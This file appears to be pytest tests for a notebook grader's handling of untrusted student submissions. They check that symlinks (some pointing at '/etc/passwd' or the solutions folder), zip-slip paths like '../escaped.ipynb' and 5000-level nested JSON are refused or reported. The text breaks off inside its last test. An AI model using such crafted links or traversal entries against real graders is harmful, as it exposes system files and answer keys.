"""Untrusted input: every shape a class arrives in, links refused, bounded reads.

Unit tests of ``submissions.discover`` and ``untrusted`` on real files, folders,
links and zips (no grading: nothing here starts a sandbox).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import nbformat
import pytest

from microgradlab_grader import untrusted
from microgradlab_grader.submissions import (SYMLINK, SubmissionError, discover,
                                             find_submissions, safe_extract, student_id)

ROOT = Path(__file__).resolve().parent.parent
NOTEBOOKS = ["02_value", "04_backward"]
T0 = 1_700_000_000   # a modification time a zip can hold (after 1980)
NOTEBOOK_TEXT = json.dumps(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1 + 1")]))


def touch(path: Path, text: str = NOTEBOOK_TEXT, mtime: float | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if mtime is not None:
        os.utime(path, (mtime, mtime))
    return path


def rows(found, base: Path | None = None):
    """(student, notebook, path relative to ``base``, status) for each Submission."""
    def shown(path):
        if path is None:
            return None
        return path.relative_to(base).as_posix() if base else path.name
    return [(s.student, s.notebook, shown(s.path), s.status) for s in found.submissions]


def zip_folder(folder: Path, archive: Path, links: dict[str, str] = {}) -> Path:
    """A zip of ``folder``, plus link entries {name: target} as Info-ZIP stores them."""
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                zf.write(path, path.relative_to(folder).as_posix())
        for name, target in links.items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (0o120777 << 16)
            zf.writestr(info, target)
    return archive


@pytest.fixture
def deep_place(tmp_path):
    """A folder for 1,200-deep trees, removed with GNU rm whatever the test did: pytest's
    own clean-up of old temporary folders (shutil.rmtree) would crash on one left behind."""
    place = tmp_path / "deep"
    place.mkdir()
    yield place
    subprocess.run(["rm", "-rf", "--one-file-system", str(place)], timeout=120, check=False)


def make_deep(top: Path, depth: int, name: str = "d") -> None:
    """``depth`` nested folders under ``top`` (os.makedirs recurses once per level itself)."""
    top.mkdir(parents=True, exist_ok=True)
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(depth):
        os.mkdir(name, dir_fd=fd)
        below = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = below
    os.close(os.open("bottom.ipynb", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
    os.close(fd)


# ------------------------------------------------------------------ shapes
def test_folder_of_student_folders(tmp_path):
    touch(tmp_path / "class" / "ann" / "02_value.ipynb")
    touch(tmp_path / "class" / "ann" / "04_backward.ipynb")
    touch(tmp_path / "class" / "ben" / "02_value.ipynb")
    found = discover(tmp_path / "class", NOTEBOOKS, tmp_path / "work")
    assert rows(found, tmp_path / "class") == [
        ("ann", "02_value", "ann/02_value.ipynb", None),
        ("ann", "04_backward", "ann/04_backward.ipynb", None),
        ("ben", "02_value", "ben/02_value.ipynb", None),
        ("ben", "04_backward", None, None)]
    assert found.unrecognised == [] and found.notes == []
    assert all(s.warnings == () and s.timestamp is None for s in found.submissions)
    assert not (tmp_path / "work").exists()    # nothing unpacked for a folder


def test_nbgrader_submitted_layout_with_timestamps(tmp_path):
    sub = tmp_path / "course" / "submitted"
    touch(sub / "ann" / "02_value" / "02_value.ipynb")
    touch(sub / "ann" / "02_value" / "timestamp.txt", "2026-03-01 09:15:00.123456 UTC\n")
    touch(sub / "ben" / "04_backward" / "04_backward.ipynb")
    for given in (tmp_path / "course", sub):     # the course folder or submitted/ itself
        found = discover(given, NOTEBOOKS, tmp_path / "work")
        assert rows(found, sub) == [
            ("ann", "02_value", "ann/02_value/02_value.ipynb", None),
            ("ann", "04_backward", None, None),
            ("ben", "02_value", None, None),
            ("ben", "04_backward", "ben/04_backward/04_backward.ipynb", None)]
        assert [s.timestamp for s in found.submissions] == [
            "2026-03-01T09:15:00.123456+00:00", None, None, None]
        assert found.unrecognised == []
    assert discover(tmp_path / "course", NOTEBOOKS, tmp_path / "work").notes == [
        "nbgrader's submitted/ layout (submitted/)"]


def test_zip_of_the_class_in_a_wrapping_folder(tmp_path):
    touch(tmp_path / "src" / "class" / "submitted" / "ann" / "02_value" / "02_value.ipynb")
    touch(tmp_path / "src" / "class" / "submitted" / "ben" / "02_value" / "02_value.ipynb")
    archive = zip_folder(tmp_path / "src", tmp_path / "class.zip")
    found = discover(archive, ["02_value"], tmp_path / "work")
    unpacked = next((tmp_path / "work").iterdir())
    assert rows(found, unpacked) == [
        ("ann", "02_value", "class/submitted/ann/02_value/02_value.ipynb", None),
        ("ben", "02_value", "class/submitted/ben/02_value/02_value.ipynb", None)]
    assert found.submissions[0].path.read_text() == NOTEBOOK_TEXT
    assert found.notes == ["nbgrader's submitted/ layout (class/submitted/)"]


def test_a_single_notebook(tmp_path):
    path = touch(tmp_path / "ann" / "02_value.ipynb")
    found = discover(path, NOTEBOOKS, tmp_path / "work")
    assert rows(found, tmp_path) == [("ann", "02_value", "ann/02_value.ipynb", None)]
    assert found.notes == ["a single notebook: 02_value.ipynb graded as ann's 02_value"]
    nbgrader = touch(tmp_path / "submitted" / "ben" / "02_value" / "02_value.ipynb")
    touch(nbgrader.parent / "timestamp.txt", "2026-03-01 09:15:00 UTC")
    found = discover(nbgrader, NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ben", "02_value", "02_value.ipynb", None)]
    assert found.submissions[0].timestamp == "2026-03-01T09:15:00+00:00"
    canvas = touch(tmp_path / "dl" / "smithjane_12345_67890_04_backward.ipynb")
    found = discover(canvas, NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("smithjane_12345", "04_backward", canvas.name, None)]
    assert found.submissions[0].name == "smithjane"
    assert found.submissions[0].student_ids == {"canvas_user": "12345",
                                                "canvas_submission": "67890"}


def test_one_students_folder(tmp_path):
    touch(tmp_path / "ann" / "02_value.ipynb")
    touch(tmp_path / "ann" / "notes.txt", "to do")
    found = discover(tmp_path / "ann", NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None),
                           ("ann", "04_backward", None, None)]
    assert found.unrecognised == ["notes.txt"]


def test_canvas_download_flat_and_zipped(tmp_path):
    dl = tmp_path / "submissions"
    touch(dl / "smithjane_12345_67890_02_value.ipynb", mtime=T0 + 100)
    touch(dl / "smithjane_12345_67890_02_value-1.ipynb", mtime=T0 + 200)   # resubmitted
    touch(dl / "doejohn_late_222_333_02_value.ipynb")
    touch(dl / "doejohn_222_333_Untitled.ipynb")
    touch(dl / "roeann_444_555_04_Backward.ipynb")
    touch(dl / "notes.txt", "hello")
    for given in (dl, zip_folder(dl, tmp_path / "submissions.zip")):
        found = discover(given, NOTEBOOKS, tmp_path / "work")
        # The id is Canvas's name and user id: two people with one name stay two.
        assert rows(found) == [
            ("doejohn_222", "02_value", "doejohn_late_222_333_02_value.ipynb", None),
            ("doejohn_222", "04_backward", None, None),
            ("roeann_444", "02_value", None, None),
            ("roeann_444", "04_backward", "roeann_444_555_04_Backward.ipynb", None),
            ("smithjane_12345", "02_value", "smithjane_12345_67890_02_value-1.ipynb", None),
            ("smithjane_12345", "04_backward", None, None)]
        by = {(s.student.split("_")[0], s.notebook): s for s in found.submissions}
        assert {s.name for s in found.submissions} == {"doejohn", "roeann", "smithjane"}
        assert by["doejohn", "02_value"].late and not by["smithjane", "02_value"].late
        assert by["smithjane", "02_value"].student_ids == {"canvas_user": "12345",
                                                           "canvas_submission": "67890"}
        assert by["smithjane", "02_value"].warnings == (
            "smithjane_12345_67890_02_value-1.ipynb matched as 02_value",
            "2 files look like 02_value: took smithjane_12345_67890_02_value-1.ipynb (newest), "
            "ignored smithjane_12345_67890_02_value.ipynb")
        assert by["roeann", "04_backward"].warnings == (
            "roeann_444_555_04_Backward.ipynb matched as 04_backward",)
        assert found.unrecognised == ["doejohn_222_333_Untitled.ipynb", "notes.txt"]
        assert found.notes == ["doejohn_222_333_Untitled.ipynb: 'Untitled.ipynb' is not a "
                               "course notebook"]


def test_moodle_download_folders_and_flat_files(tmp_path):
    dl = tmp_path / "moodle"
    touch(dl / "Jane Smith_101_assignsubmission_file_" / "02_value.ipynb")
    touch(dl / "Jane Smith_102_assignsubmission_file_" / "02_value.ipynb")  # another Jane
    touch(dl / "Bo Li_103_assignsubmission_file_04_backward.ipynb")
    found = discover(dl, NOTEBOOKS, tmp_path / "work")
    # The id is made from Moodle's full name and participant id: two people, two ids.
    bo, jane, jane2 = (student_id("Bo Li_103"), student_id("Jane Smith_101"),
                       student_id("Jane Smith_102"))
    assert rows(found, dl) == [
        (bo, "02_value", None, None),
        (bo, "04_backward", "Bo Li_103_assignsubmission_file_04_backward.ipynb", None),
        (jane, "02_value", "Jane Smith_101_assignsubmission_file_/02_value.ipynb", None),
        (jane, "04_backward", None, None),
        (jane2, "02_value", "Jane Smith_102_assignsubmission_file_/02_value.ipynb", None),
        (jane2, "04_backward", None, None)]
    assert (bo, jane, jane2) == ("Bo_Li_103~c3580562", "Jane_Smith_101~4aa12b37",
                                 "Jane_Smith_102~d415a423")
    by = {s.student: s for s in found.submissions}
    assert (by[jane].name, by[jane].full_name, by[jane].student_ids) == (
        "Jane Smith", "Jane Smith", {"moodle_participant": "101"})
    assert (by[jane2].name, by[jane2].student_ids) == ("Jane Smith",
                                                       {"moodle_participant": "102"})


def test_flat_files_named_student_then_notebook(tmp_path):
    touch(tmp_path / "dl" / "ann_02_value.ipynb")
    touch(tmp_path / "dl" / "ben-04_backward (2).ipynb")
    found = discover(tmp_path / "dl", NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "ann_02_value.ipynb", None),
                           ("ann", "04_backward", None, None),
                           ("ben", "02_value", None, None),
                           ("ben", "04_backward", "ben-04_backward (2).ipynb", None)]
    assert found.submissions[3].warnings == ("ben-04_backward (2).ipynb matched as 04_backward",)


# ------------------------------------------------------------------ names that are nearly right
@pytest.mark.parametrize("name", ["02_value (1).ipynb", "02_value-1.ipynb", "02_Value.ipynb",
                                  "02-value.ipynb", "Copy of 02_value.ipynb",
                                  "02_value - Copy.ipynb", "value.ipynb", "02_valeu.ipynb",
                                  "02_VALUE.IPYNB", "ann_02_value.ipynb"])
def test_near_names_match_with_a_warning(tmp_path, name):
    touch(tmp_path / "class" / "ann" / name)
    touch(tmp_path / "class" / "ben" / "04_backward.ipynb")
    found = discover(tmp_path / "class", NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ann", "02_value", name, None), ("ann", "04_backward", None, None),
                           ("ben", "02_value", None, None),
                           ("ben", "04_backward", "04_backward.ipynb", None)]
    assert [s.warnings for s in found.submissions] == [
        (f"{name} matched as 02_value",), (), (), ()]
    assert found.unrecognised == []


@pytest.mark.parametrize("name", ["scratch.ipynb", "05_mlp.ipynb", "02_value.py",
                                  "Untitled.ipynb", "02_value.ipynb.zip"])
def test_other_files_are_listed_not_matched(tmp_path, name):
    touch(tmp_path / "class" / "ann" / name)
    found = discover(tmp_path / "class", ["02_value", "06_mlp", "05_tanh_neuron"],
                     tmp_path / "work")
    assert [s.path for s in found.submissions] == [None, None, None]
    assert found.unrecognised == [f"ann/{name}"]


def test_several_candidates_take_the_newest_and_name_the_rest(tmp_path):
    ann = tmp_path / "class" / "ann"
    touch(ann / "02_value.ipynb", mtime=T0 + 300)           # newest, though not a "copy"
    touch(ann / "02_value (1).ipynb", mtime=T0 + 200)
    touch(ann / "02_Value.ipynb", mtime=T0 + 100)
    touch(ann / "scratch.ipynb")
    touch(ann / "notes.txt")
    touch(tmp_path / "class" / ".DS_Store")
    touch(ann / ".ipynb_checkpoints" / "02_value-checkpoint.ipynb")
    found = discover(tmp_path / "class", NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None),
                           ("ann", "04_backward", None, None)]
    assert found.submissions[0].warnings == (
        "3 files look like 02_value: took 02_value.ipynb (newest), "
        "ignored 02_Value.ipynb, 02_value (1).ipynb",)
    assert found.unrecognised == ["ann/notes.txt", "ann/scratch.ipynb"]
    assert found.notes == ["nobody handed in 04_backward",
                           "ignored 2 system files and folders (names starting with '.', "
                           "__MACOSX, Thumbs.db)"]
    # Equal times (a zip keeps 2-second times): the higher copy number is the later download.
    for path in ann.glob("02_*"):
        os.utime(path, (T0 + 500, T0 + 500))
    found = discover(tmp_path / "class", NOTEBOOKS, tmp_path / "work")
    assert found.submissions[0].path.name == "02_value (1).ipynb"
    # A near name, however new, loses to a file named as the notebook.
    touch(ann / "02_valeu.ipynb", mtime=T0 + 900)
    found = discover(tmp_path / "class", NOTEBOOKS, tmp_path / "work")
    assert found.submissions[0].path.name == "02_value (1).ipynb"
    for path in ann.glob("02_*"):
        if path.name != "02_valeu.ipynb":
            path.unlink()
    found = discover(tmp_path / "class", NOTEBOOKS, tmp_path / "work")
    assert found.submissions[0].path.name == "02_valeu.ipynb"
    assert found.submissions[0].warnings == ("02_valeu.ipynb matched as 02_value",)


def test_student_folder_names_that_are_not_plain_ids(tmp_path):
    touch(tmp_path / "class" / "Ann Lee" / "02_value.ipynb")
    touch(tmp_path / "class" / "---" / "02_value.ipynb")
    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
    # sha256("Ann Lee") starts a36e143c: the id is the same on every machine, every run.
    assert rows(found) == [("Ann_Lee~a36e143c", "02_value", "02_value.ipynb", None),
                           ("learner~cb3f91d5", "02_value", "02_value.ipynb", None)]
    assert [s.name for s in found.submissions] == ["Ann Lee", "---"]
    assert found.unrecognised == []
    assert found.notes == [
        "---/: student id 'learner~cb3f91d5' (the folder name is not a plain id)",
        "Ann Lee/: student id 'Ann_Lee~a36e143c' (the folder name is not a plain id)"]


# ------------------------------------------------------------------ links are never followed
def test_symlinked_student_folders_are_refused(tmp_path):
    cls = tmp_path / "class"
    touch(cls / "ben" / "02_value.ipynb")
    (cls / "sol").symlink_to(ROOT / "solutions" / "02_value")
    (cls / "copy.cat").symlink_to(cls / "ben")
    found = discover(cls, NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ben", "02_value", "02_value.ipynb", None),
                           ("ben", "04_backward", None, None),
                           ("copy.cat", "02_value", None, SYMLINK),
                           ("copy.cat", "04_backward", None, SYMLINK),
                           ("sol", "02_value", None, SYMLINK),
                           ("sol", "04_backward", None, SYMLINK)]
    sol = found.submissions[4]
    assert sol.detail == (f"the student folder sol is a symbolic link (to "
                          f"'{ROOT / 'solutions' / '02_value'}'); it was not followed and "
                          "nothing in it was read")
    assert found.notes == [
        f"copy.cat is a symbolic link (to '{cls / 'ben'}'): not followed, the student folder "
        "is refused; copy.cat's rows are marked symlink",
        f"sol is a symbolic link (to '{ROOT / 'solutions' / '02_value'}'): not followed, the "
        "student folder is refused; sol's rows are marked symlink",
        "nobody handed in 04_backward"]


def test_symlinked_notebooks_and_notebook_folders_are_refused(tmp_path):
    cls = tmp_path / "class"
    touch(cls / "ben" / "02_value.ipynb")
    touch(cls / "eve" / "02_value (1).ipynb")
    (cls / "eve" / "02_value.ipynb").symlink_to("../ben/02_value.ipynb")
    (cls / "sub" / "submitted" / "x").mkdir(parents=True)
    (cls / "mal").mkdir()
    (cls / "mal" / "02_value").symlink_to(ROOT / "solutions" / "02_value")   # nbgrader shape
    (cls / "mal" / "notes.txt").symlink_to("/etc/passwd")
    found = discover(cls, ["02_value"], tmp_path / "work")
    assert rows(found) == [("ben", "02_value", "02_value.ipynb", None),
                           ("eve", "02_value", None, SYMLINK),
                           ("mal", "02_value", None, SYMLINK),
                           ("sub", "02_value", None, None)]
    eve = found.submissions[1]
    assert eve.detail == ("02_value.ipynb is a symbolic link (to '../ben/02_value.ipynb'); it "
                          "was not followed and nothing was read from it")
    assert eve.warnings == ("2 files look like 02_value: the row is refused since "
                            "02_value.ipynb is a symbolic link; also there: 02_value (1).ipynb",)
    assert found.unrecognised == ["mal/notes.txt"]
    assert found.notes == [
        "eve/02_value.ipynb is a symbolic link (to '../ben/02_value.ipynb'): not followed, "
        "eve's 02_value row is marked symlink",
        f"mal/02_value is a symbolic link (to '{ROOT / 'solutions' / '02_value'}'): not "
        "followed, mal's 02_value row is marked symlink",
        "mal/notes.txt is a symbolic link (to '/etc/passwd'): not followed, and not a course "
        "notebook"]


def test_symlinked_flat_file_is_refused(tmp_path):
    touch(tmp_path / "secret.ipynb")
    (tmp_path / "dl").mkdir()
    (tmp_path / "dl" / "ann_02_value.ipynb").symlink_to(tmp_path / "secret.ipynb")
    found = discover(tmp_path / "dl", ["02_value"], tmp_path / "work")
    assert rows(found) == [("ann", "02_value", None, SYMLINK)]


def test_symlink_entries_in_a_zip_are_reported_not_created(tmp_path):
    touch(tmp_path / "src" / "ann" / "02_value.ipynb")
    touch(tmp_path / "src" / "ben" / "04_backward.ipynb")
    archive = zip_folder(tmp_path / "src", tmp_path / "class.zip", links={
        "ben/02_value.ipynb": "../ann/02_value.ipynb",
        "sol": "../../../solutions/02_value",
        "ann/passwd": "/etc/passwd"})
    found = discover(archive, NOTEBOOKS, tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None),
                           ("ann", "04_backward", None, None),
                           ("ben", "02_value", None, SYMLINK),
                           ("ben", "04_backward", "04_backward.ipynb", None),
                           ("sol", "02_value", None, SYMLINK),
                           ("sol", "04_backward", None, SYMLINK)]
    assert found.unrecognised == ["ann/passwd"]
    assert found.notes == [
        "ann/passwd is a symbolic link (to '/etc/passwd'): not followed, and not a course "
        "notebook",
        "ben/02_value.ipynb is a symbolic link (to '../ann/02_value.ipynb'): not followed, "
        "ben's 02_value row is marked symlink",
        "sol is a symbolic link (to '../../../solutions/02_value'): not followed, the student "
        "folder is refused; sol's rows are marked symlink"]
    links = [p for p in (tmp_path / "work").rglob("*") if p.is_symlink()]
    assert links == []
    # The strict extractor still refuses such a zip outright.
    with pytest.raises(SubmissionError, match="symbolic link"):
        safe_extract(archive, tmp_path / "strict")


# ------------------------------------------------------------------ depth and size
def test_deep_folders_are_not_searched_and_do_not_stop_discovery(deep_place, tmp_path):
    cls = deep_place / "class"
    touch(cls / "ann" / "02_value.ipynb")
    make_deep(cls / "ann", 1200)
    found = discover(cls, ["02_value"], tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None)]
    # Searched: ann/, ann/d/ and ann/d/d/ (a student's folder wrapped around nbgrader's).
    assert found.unrecognised == ["ann/d/d/d/"]
    assert found.notes == ["ann/d/d/d: folders this deep in a student folder are not searched"]
    untrusted.remove_tree(cls)
    assert not cls.exists()


def test_deep_entries_in_a_zip_are_skipped_and_listed(tmp_path):
    deep = "ann/" + "d/" * 12 + "x.ipynb"
    with zipfile.ZipFile(tmp_path / "class.zip", "w") as zf:
        zf.writestr("ann/02_value.ipynb", NOTEBOOK_TEXT)
        zf.writestr(deep, "{}")
    found = discover(tmp_path / "class.zip", ["02_value"], tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None)]
    assert found.unrecognised == [deep]
    assert found.notes == [f"class.zip: {deep}: nested more than 8 folders deep; not unpacked"]


def test_remove_tree_survives_1200_nested_folders(deep_place, monkeypatch):
    host_tmp = deep_place / "host-tmp"
    host_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(host_tmp))
    with untrusted.scratch_folder("mglab-test-") as scratch:
        make_deep(scratch / "work", 1200)
        (scratch / "work" / "locked").mkdir(mode=0)   # made unreadable by the learner
        (scratch / "link").symlink_to(ROOT)            # removed, never followed
        if sys.version_info < (3, 12):
            # The fixture is deep enough to break the standard library's recursive removal.
            with pytest.raises(RecursionError):
                shutil.rmtree(scratch / "work")
    assert list(host_tmp.iterdir()) == []
    assert (ROOT / "README.md").exists()


def test_deep_json_notebook_is_unreadable_not_an_exception(tmp_path):
    deep = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
    text = json.dumps(deep)[:-1] + ', "x": ' + "[" * 5000 + "]" * 5000 + "}"
    path = touch(tmp_path / "deep.ipynb", text)
    with pytest.raises(RecursionError):          # what plain json.loads does
        json.loads(text)
    assert untrusted.read_notebook(path) == \
        "not a notebook (JSON nested more than 100 levels deep)"
    bare = touch(tmp_path / "bare.ipynb", "[" * 5000 + "]" * 5000)
    assert untrusted.read_notebook(bare) == \
        "not a notebook (JSON nested more than 100 levels deep)"


def test_brackets_inside_strings_do_not_count_as_depth(tmp_path):
    notebook = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell('[' * 5000 + ' "quoted \\" [[[ ' + '{' * 300),
        nbformat.v4.new_code_cell("x = [[[[1]]]]")])
    path = touch(tmp_path / "ok.ipynb", json.dumps(notebook))
    read = untrusted.read_notebook(path)
    assert not isinstance(read, str), read
    assert read.cells[1].source == "x = [[[[1]]]]"


def test_notebook_reads_are_bounded_and_never_follow_links(tmp_path, monkeypatch):
    assert untrusted.read_notebook(touch(tmp_path / "n.ipynb", "1" * 5000)).startswith(
        "not valid JSON (ValueError: Exceeds the limit")
    path = touch(tmp_path / "big.ipynb", NOTEBOOK_TEXT + " " * 5000)
    assert not isinstance(untrusted.read_notebook(path), str)
    monkeypatch.setattr(untrusted, "MAX_NOTEBOOK_BYTES", 4096)
    assert untrusted.read_notebook(path) == "too large (5 kB; the limit is 4 kB)"
    (tmp_path / "link.ipynb").symlink_to(path)
    assert untrusted.read_notebook(tmp_path / "link.ipynb") == "a symbolic link (not followed)"
    os.mkfifo(tmp_path / "fifo.ipynb")
    assert untrusted.read_notebook(tmp_path / "fifo.ipynb") == "not a regular file"
    assert untrusted.read_notebook(tmp_path / "gone.ipynb") == \
        "could not be read (No such file or directory)"
    touch(tmp_path / "latin.ipynb").write_bytes(b'{"a": "\xe9"}')
    assert untrusted.read_notebook(tmp_path / "latin.ipynb").startswith(
        "not valid JSON (not UTF-8 text")


def test_oversized_timestamp_is_a_warning_and_an_unknown_time(tmp_path):
    touch(tmp_path / "submitted" / "ann" / "02_value" / "02_value.ipynb")
    touch(tmp_path / "submitted" / "ann" / "02_value" / "timestamp.txt", "9" * 100_000)
    found = discover(tmp_path, ["02_value"], tmp_path / "work")
    assert found.submissions[0].timestamp == untrusted.UNKNOWN_TIME
    assert found.submissions[0].warnings == (
        "submitted/ann/02_value/timestamp.txt: too large (98 kB; the limit is 4 kB); "
        "lateness unknown",)


# ------------------------------------------------------------------ bad paths
def test_bad_paths_are_named(tmp_path):
    with pytest.raises(SubmissionError, match=r"nowhere does not exist"):
        discover(tmp_path / "nowhere", NOTEBOOKS, tmp_path / "work")
    with pytest.raises(SubmissionError, match=r"grades\.csv is neither a folder, a \.zip nor a "
                                              r"notebook \(\.ipynb\)"):
        discover(touch(tmp_path / "grades.csv", "a,b"), NOTEBOOKS, tmp_path / "work")
    with pytest.raises(SubmissionError, match=r"/dev/null is not a regular file or folder"):
        discover(Path("/dev/null"), NOTEBOOKS, tmp_path / "work")
    with pytest.raises(SubmissionError, match=r"broken\.zip is not a readable zip file"):
        discover(touch(tmp_path / "broken.zip", "not a zip"), NOTEBOOKS, tmp_path / "work")
    (tmp_path / "empty").mkdir()
    with pytest.raises(SubmissionError, match=r"empty holds no submissions: .* found nothing"):
        discover(tmp_path / "empty", NOTEBOOKS, tmp_path / "work")
    touch(tmp_path / "strays" / "notes.txt")
    with pytest.raises(SubmissionError, match=r"strays holds no submissions: .* found notes\.txt"):
        discover(tmp_path / "strays", NOTEBOOKS, tmp_path / "work")
    with pytest.raises(SubmissionError, match=r"scratch\.ipynb is not one of the course "
                                              r"notebooks \(02_value, 04_backward\)"):
        discover(touch(tmp_path / "ann" / "scratch.ipynb"), NOTEBOOKS, tmp_path / "work")
    with zipfile.ZipFile(tmp_path / "damaged.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ann/02_value.ipynb", NOTEBOOK_TEXT)
        zf.writestr("ben/02_value.ipynb", NOTEBOOK_TEXT)
    data = bytearray((tmp_path / "damaged.zip").read_bytes())
    second = data.index(b"ben/02_value.ipynb") + len("ben/02_value.ipynb")
    data[second + 10] ^= 0xFF            # corrupt ben's compressed bytes only
    (tmp_path / "damaged.zip").write_bytes(bytes(data))
    found = discover(tmp_path / "damaged.zip", ["02_value"], tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None),
                           ("ben", "02_value", None, "unreadable")]
    assert found.submissions[1].detail.startswith(
        "02_value.ipynb could not be unpacked from the zip (Error -3 while decompressing")
    assert found.unrecognised == [] and found.notes == []
    with pytest.raises(SubmissionError, match="zip-slip"):
        with zipfile.ZipFile(tmp_path / "slip.zip", "w") as zf:
            zf.writestr("../escaped.ipynb", "{}")
        discover(tmp_path / "slip.zip", NOTEBOOKS, tmp_path / "work")


def test_find_submissions_keeps_its_folder_only_contract(tmp_path):
    touch(tmp_path / "class" / "ann" / "02_value.ipynb")
    found = find_submissions(tmp_path / "class", ["02_value"])
    assert [(s.student, s.notebook, s.path) for s in found] == [
        ("ann", "02_value", tmp_path / "class" / "ann" / "02_value.ipynb")]
    with pytest.raises(SubmissionError, match="is not a folder"):
        find_submissions(tmp_path / "class.zip", ["02_value"])


# ------------------------------------------------------------------ one run of the real command
@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bwrap is not installed")
def test_a_5000_deep_notebook_does_not_stop_the_class(tmp_path, jupyter_env):
    """Before: json.loads raised RecursionError while writing the feedback page, the
    command exited 1 and nobody got a grades.csv."""
    from nbgrader.preprocessors import ClearHiddenTests

    from microgradlab_grader import cli
    from microgradlab_grader.report import read_csv

    honest = nbformat.read(str(ROOT / "solutions" / "02_value" / "02_value.ipynb"), as_version=4)
    honest, _ = ClearHiddenTests().preprocess(honest, {})
    touch(tmp_path / "class" / "ann" / "02_value.ipynb", nbformat.writes(honest))
    deep = json.loads(nbformat.writes(honest))
    deep["metadata"]["x"] = "@"
    text = json.dumps(deep).replace('"@"', "[" * 5000 + "]" * 5000)
    touch(tmp_path / "class" / "ben" / "02_value.ipynb", text)
    assert cli.main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"),
                     "--notebooks", "02_value", "--no-progress", "--seed", "3"]) == 0
    rows = {r["student"]: r for r in read_csv(tmp_path / "out" / "grades.csv")}
    assert (rows["ann"]["status"], rows["ann"]["score"]) == ("graded", rows["ann"]["max_score"])
    assert rows["ben"]["status"] == "unreadable"
    report = (tmp_path / "out" / "report.txt").read_text()
    assert "ben 02_value: unreadable - not a notebook (JSON nested more than 100 levels " \
           "deep)" in report


def test_zip_entries_that_cannot_be_unpacked_are_listed_with_why(tmp_path):
    long_name = "cat/" + "x" * 300 + ".ipynb"
    with zipfile.ZipFile(tmp_path / "odd.zip", "w") as zf:
        zf.writestr("ann/02_value.ipynb", NOTEBOOK_TEXT)
        zf.writestr("ben", "a file where a folder should be")
        zf.writestr("ben/02_value.ipynb", NOTEBOOK_TEXT)
        zf.writestr(long_name, NOTEBOOK_TEXT)
    found = discover(tmp_path / "odd.zip", ["02_value"], tmp_path / "work")
    assert rows(found) == [("ann", "02_value", "02_value.ipynb", None),
                           ("cat", "02_value", None, None)]
    assert found.unrecognised == ["ben", "ben/02_value.ipynb", long_name]
    assert found.notes == [
        "ben/02_value.ipynb: could not be unpacked from the zip (File exists)",
        f"{long_name}: could not be unpacked from the zip (File name too long)"]


# ------------------------------------------------------------------ one learner, one id
from microgradlab_grader.submissions import ids  # noqa: E402


def old_slug(name: str) -> str:
    """The rule ids replaced, for the controls: a slug alone, cut at 100 characters."""
    import re
    return re.sub(r"[^A-Za-z0-9._@+-]+", "_", name).strip("._-+@")[:100]


def test_names_that_slug_alike_stay_two_learners(tmp_path):
    touch(tmp_path / "class" / "ann lee" / "02_value.ipynb", NOTEBOOK_TEXT + " ")
    touch(tmp_path / "class" / "ann_lee" / "02_value.ipynb")
    touch(tmp_path / "class" / "ann  lee!" / "02_value.ipynb")
    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
    assert [(s.student, s.name) for s in found.submissions] == [
        ("ann_lee", "ann_lee"), (student_id("ann  lee!"), "ann  lee!"),
        (student_id("ann lee"), "ann lee")]
    assert len({s.path for s in found.submissions}) == 3     # nobody's work vanished
    # The control: without the hash the three names are one id (one row, two lost).
    assert old_slug("ann lee") == old_slug("ann_lee") == old_slug("ann  lee!") == "ann_lee"
    assert ids.slug("ann lee") == ids.slug("ann  lee!") == "ann_lee"


def test_long_names_sharing_100_characters_stay_two_learners(tmp_path):
    first, second = "x" * 100 + "-first", "x" * 100 + "-second"
    touch(tmp_path / "class" / first / "02_value.ipynb")
    touch(tmp_path / "class" / second / "02_value.ipynb")
    found = discover(tmp_path / "class", ["02_value"], tmp_path / "work")
    made = [s.student for s in found.submissions]
    assert len(set(made)) == 2 and all(len(m) <= 100 for m in made)
    assert {s.name for s in found.submissions} == {first, second}
    assert old_slug(first) == old_slug(second)                 # the control: one id


def test_ids_do_not_depend_on_the_rest_of_the_class(tmp_path):
    """A learner's id is theirs alone: adding someone never moves another's row."""
    touch(tmp_path / "one" / "Ann Lee" / "02_value.ipynb")
    touch(tmp_path / "one" / "smithjane_222_9_02_value.ipynb")
    touch(tmp_path / "two" / "Ann Lee" / "02_value.ipynb")
    touch(tmp_path / "two" / "ann_lee" / "02_value.ipynb")
    touch(tmp_path / "two" / "smithjane_111_8_02_value.ipynb")    # another Jane Smith, first
    touch(tmp_path / "two" / "smithjane_222_9_02_value.ipynb")
    one = {s.name + s.student_ids.get("canvas_user", ""): s.student
           for s in discover(tmp_path / "one", ["02_value"], tmp_path / "work").submissions}
    two = {s.name + s.student_ids.get("canvas_user", ""): s.student
           for s in discover(tmp_path / "two", ["02_value"], tmp_path / "work").submissions}
